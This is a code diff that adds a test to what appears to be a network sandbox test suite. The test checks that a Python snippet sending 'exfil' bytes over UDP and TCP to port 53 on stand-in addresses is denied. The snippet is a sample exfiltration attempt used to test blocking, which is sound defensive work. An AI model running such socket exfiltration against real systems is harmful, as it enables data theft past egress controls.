@@ -124,6 +124,19 @@ def advised(t):
         t.equal(read, ["--allow", hint[len("--allow "):]], "a shell reads two words")
 
 
+UNSEEN = r"""
+u, t = socket.socket(socket.AF_INET, socket.SOCK_DGRAM), socket.socket()
+u.sendto(b'exfil', ('192.0.2.61', 53)); t.connect(('192.0.2.62', 53)); t.send(b'exfil')
+"""
+
+
+@suite.case("A110d", "what is no lookup, sent to where lookups are refused", "there is nothing to be seen by outside")
+def unseen(t):
+    result = inside(t, UNSEEN)
+    told = " ".join(denial["what"] for denial in result.json.get("denials", []))
+    t.ok("192.0.2.61:53" in told and "192.0.2.62:53" in told and not result.hits and not result.asked, "each is a denial", (told, result))
+
+
 LEADS = ("to-host", "to-private", "loop-a", "mapped", "nat64", "siit", "zero", "all", "group", "sixtofour")
 
 
